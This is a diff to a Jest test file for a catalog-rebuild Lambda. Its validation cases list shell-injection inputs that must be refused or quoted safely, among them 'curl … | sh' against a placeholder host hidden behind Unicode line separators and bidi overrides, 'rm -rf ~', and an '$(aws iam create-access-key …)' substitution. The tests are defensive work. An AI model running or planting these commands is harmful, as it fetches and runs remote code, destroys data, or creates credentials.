@@ -1,3 +1,4 @@
+import { spawnSync } from 'node:child_process';
 import { CATALOG_REBUILD_ROUNDS } from '../../../../config/catalog-rebuild-rounds';
 import { type BackupRecord } from '../../../../lambdas/catalog/backup-record';
 import { backupSnapshotTags } from '../../../../lambdas/catalog/backup-snapshot-tags';
@@ -22,9 +23,21 @@ it.each([
   [{ vault: 'backup' }, 'Invalid catalog rebuild request: vault: must be "primary" or "dr"'],
   [{ vualt: 'dr' }, 'Invalid catalog rebuild request: (input): Unrecognized key'],
   ['primary', 'Invalid catalog rebuild request: (input): '],
-  [{ markerFinishWith: 'rm -rf /' }, 'markerFinishWith: must be a "lifeboat catalog rebuild …" command line'],
-  [{ markerFinishWith: 'lifeboat catalog rebuild --vault dr\n\u001b[2J' }, 'markerFinishWith: must have no control characters'],
-  [{ markerFinishWith: `lifeboat catalog rebuild ${'x'.repeat(1024)}` }, 'markerFinishWith: must be at most 1024 characters'],
+  // Review r58A F1: whoever may start the runbook wrote a free-text line that every operator of the catalog was told to
+  // paste; the input now has fields only, from which the function makes the line.
+  [{ markerFinishWith: 'lifeboat catalog rebuild --vault primary --env prod --aws; curl -s https://x.example/p | sh' }, '(input): Unrecognized key: "markerFinishWith"'],
+  [{ markerOptions: { finishWith: 'lifeboat catalog rebuild --vault primary --env dev' } }, 'markerOptions: Unrecognized key: "finishWith"'],
+  [{ markerOptions: { dataDir: '../cloud-b' } }, 'markerOptions.dataDir: must be an absolute path'],
+  [{ markerOptions: { dataDir: '/srv/a\u2028curl x|sh' } }, 'markerOptions.dataDir: must have no control, format or line-separator characters'],
+  [{ markerOptions: { dataDir: '/srv/a\u2029rm -rf ~' } }, 'markerOptions.dataDir: must have no control, format or line-separator characters'],
+  [{ markerOptions: { dataDir: '/srv/\u202Ehs|x lruc\u202C' } }, 'markerOptions.dataDir: must have no control, format or line-separator characters'],
+  [{ markerOptions: { dataDir: '/srv/a\u200B' } }, 'markerOptions.dataDir: must have no control, format or line-separator characters'],
+  [{ markerOptions: { dataDir: '/srv/a\n\u001b[2J' } }, 'markerOptions.dataDir: must have no control, format or line-separator characters'],
+  [{ markerOptions: { dataDir: `/${'d'.repeat(1024)}` } }, 'markerOptions.dataDir: must be at most 1024 characters'],
+  [{ markerOptions: { vaultKey: '$(aws iam create-access-key --user-name ops)' } }, 'markerOptions.vaultKey: must be a KMS key id, key ARN, alias name (alias/…) or alias ARN'],
+  [{ markerOptions: { vaultKey: 'alias/k`id`' } }, 'markerOptions.vaultKey: must be a KMS key id'],
+  [{ markerOptions: { vaultKey: 'alias/k; curl x|sh' } }, 'markerOptions.vaultKey: must be a KMS key id'],
+  [{ markerOptions: { vaultKey: 'alias/k\u2028curl x|sh' } }, 'markerOptions.vaultKey: must be a KMS key id'],
 ])('refuses %j with an InvalidInputError naming the field', async (input, message) => {
   await expect(handler({ request: input })).rejects.toMatchObject({ name: 'InvalidInputError', message: expect.stringContaining(message) });
 });
@@ -117,10 +130,50 @@ describe('rounds: the deadline of each invocation, and the error when the rounds
 
   // Review r57AD F1: the function's own line has no --data-dir; a runbook on a local cloud at another data directory left
   // a marker whose line, pasted from a refused restore by point in time, rebuilt the default data directory's catalog.
-  it('stores the marker line the CLI passed in the execution input, not its own', async () => {
-    const markerFinishWith = "lifeboat catalog rebuild --vault dr --region dr --env prod --data-dir '/srv/dr cloud'";
-    await rebuildCatalogHandler(runtime)({ request: { markerFinishWith } }, invocation(15 * MINUTE));
-    expect(marker).toMatchObject({ vault: 'dr', finishWith: markerFinishWith });
+  // Review r58A F1: the line is the function's own, with the options quoted as one shell word each, whatever they hold.
+  it('on a local cloud, stores its own line with the --data-dir of markerOptions, one shell word however it is spelt', async () => {
+    const local = () => ({ ...runtime(), config: { homeVault: 'dr', localEndpoints: { s3: 'http://127.0.0.1:1' } } }) as unknown as LambdaRuntime;
+    const dataDir = "/srv/dr cloud; $(id) `id` it's";
+    await rebuildCatalogHandler(local)({ request: { markerOptions: { dataDir } } }, invocation(15 * MINUTE));
+    const line = "lifeboat catalog rebuild --vault dr --region dr --env prod --data-dir '/srv/dr cloud; $(id) `id` it'\\''s'";
+    expect(marker).toMatchObject({ vault: 'dr', finishWith: line });
+    // A POSIX shell reads it back as the words the function meant, the data directory whole.
+    const words = spawnSync('sh', ['-c', `printf '%s\\n' ${line}`], { encoding: 'utf8' }).stdout.split('\n').slice(0, -1);
+    expect(words).toEqual(['lifeboat', 'catalog', 'rebuild', '--vault', 'dr', '--region', 'dr', '--env', 'prod', '--data-dir', dataDir]);
+  });
+
+  // Review r58A F1, F2: an option that cannot be meant (a data directory in AWS, a vault key on a local cloud or with the
+  // DR vault, whose rebuild never opens the primary vault's key) is refused before anything is read, not printed.
+  it.each([
+    [{ dataDir: '/srv/x' }, {}, "markerOptions.dataDir: is a local cloud's option, and this function runs in AWS"],
+    [{ vaultKey: 'alias/ops-key' }, {}, "markerOptions.vaultKey: names the primary vault's key, which a rebuild from the dr vault never opens"],
+    [{ vaultKey: 'alias/ops-key' }, { localEndpoints: { s3: 'http://127.0.0.1:1' } }, 'markerOptions.vaultKey: is an option of AWS, and this function runs on a local cloud (its vault has a key file)'],
+  ])('refuses markerOptions %j that do not fit the run, before reading anything', async (markerOptions, config, message) => {
+    const opened = jest.fn(async () => vault);
+    const at = () => ({ ...runtime(), config: { homeVault: 'dr', ...config }, openVault: opened }) as unknown as LambdaRuntime;
+    await expect(rebuildCatalogHandler(at)({ request: { markerOptions } }, invocation(15 * MINUTE))).rejects.toMatchObject({
+      name: 'InvalidInputError',
+      message: `Invalid catalog rebuild request: ${message}`,
+    });
+    expect(opened).not.toHaveBeenCalled();
+    expect(marker).toBeUndefined();
+  });
+
+  // Review r58A F4: the marker kept the CLI's line, but the errors of the same execution named the function's own, and
+  // the operator reading the failure pasted a line without --vault-key (or --data-dir).
+  it('the marker, the error when the rounds run out and a refusal for memory name the same line, with the vault key of markerOptions', async () => {
+    const vaultKey = 'arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab';
+    const line = `lifeboat catalog rebuild --vault primary --env prod --aws --vault-key ${vaultKey}`;
+    const primary = (memoryMb?: number) => () =>
+      ({ ...runtime(), config: { homeVault: 'primary', ...(memoryMb !== undefined ? { memoryMb } : {}) }, vaultStore: () => new MemoryVaultStore('no-dr-copies') }) as unknown as LambdaRuntime;
+    const request = { markerOptions: { vaultKey } };
+    const outOfRounds = await rebuildCatalogHandler(primary())({ request, rebuild: { round: CATALOG_REBUILD_ROUNDS - 1, created: 0 } }, invocation(15 * MINUTE)).catch((e: Error) => e);
+    expect(marker?.finishWith).toBe(line);
+    expect(outOfRounds).toMatchObject({ name: 'CatalogRebuildIncompleteError', message: expect.stringMatching(/ran out of time after/) });
+    expect((outOfRounds as Error).message.endsWith(`: ${line}`)).toBe(true);
+    const refused = await rebuildCatalogHandler(primary(128))({ request }, invocation(15 * MINUTE)).catch((e: Error) => e);
+    expect(refused).toMatchObject({ name: 'CatalogRebuildTooManySnapshotsError' });
+    expect((refused as Error).message.endsWith(`: ${line}`)).toBe(true);
   });
 
   it('a round cut among backups newer than the earlier mark (written since) goes on, and the next finishes (review rH F4)', async () => {
